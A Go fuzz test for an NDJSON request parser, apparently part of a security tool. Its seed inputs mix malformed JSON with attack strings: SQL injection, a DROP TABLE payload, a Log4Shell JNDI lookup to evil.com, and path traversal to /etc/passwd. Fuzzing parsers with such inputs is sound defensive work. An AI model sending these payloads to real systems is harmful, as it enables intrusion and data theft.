package input_test

import (
	"strings"
	"testing"

	"github.com/vigilsec/vigil/internal/adapters/input"
	"github.com/vigilsec/vigil/internal/domain"
)

func FuzzNDJSONParser(f *testing.F) {
	parser := input.NewNDJSONParser()

	seeds := []string{
		`{"ip_address":"192.168.1.1","method":"GET","endpoint":"/test"}`,
		`{"ip_address":"::1","method":"POST","endpoint":"/api/data","body":"x"}`,

		`{}`,
		`{"ip_address":""}`,
		`{"endpoint":""}`,

		`{"a":{"b":{"c":{"d":{"e":{"f":{"g":{"h":{"i":{"j":{}}}}}}}}}}}`,
		`{"endpoint":"\xff\xfe"}`,
		`{"user_agent":"\x80\x81\x82"}`,

		`{"endpoint":"` + strings.Repeat("A", 10000) + `"}`,

		`{"endpoint":"/?id=1' OR '1'='1"}`,
		`{"body":"'; DROP TABLE users;--"}`,
		`{"user_agent":"${jndi:ldap://evil.com/}"}`,
		`{"endpoint":"/..%2f..%2f..%2fetc%2fpasswd"}`,

		`{"endpoint":"/\r\n\t\b\f"}`,
		`{"headers":{"cookie":"session=\x00\x01\x02"}}`,

		`{"incomplete": `,
		`{"unclosed": "string`,
		`{{{`,
		`}}}`,
		`null`,
		`[]`,
		`""`,
		`123`,
		"",
		" ",
		"\x00\x01\x02\x03",
	}

	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, data string) {
		defer func() {
			if r := recover(); r != nil {
				t.Fatalf("parser panicked on input %q: %v", truncate(data, 100), r)
			}
		}()

		req, err := parser.Parse(data)

		if err == nil && req != nil {
			if req.Endpoint == "" {
				t.Error("parsed request has empty endpoint")
			}
			if req.IP == "" {
				t.Error("parsed request has empty ip")
			}
			if len(req.Body) > domain.MaxBodySize {
				t.Errorf("body length exceeded limit: %d", len(req.Body))
			}
			for k, v := range req.Headers {
				if k != strings.ToLower(k) {
					t.Errorf("header key not lowercased: %q", k)
				}
				if len(v) > domain.MaxHeaderValueSize {
					t.Errorf("header value exceeded limit: %d", len(v))
				}
			}
		}
	})
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "..."
}
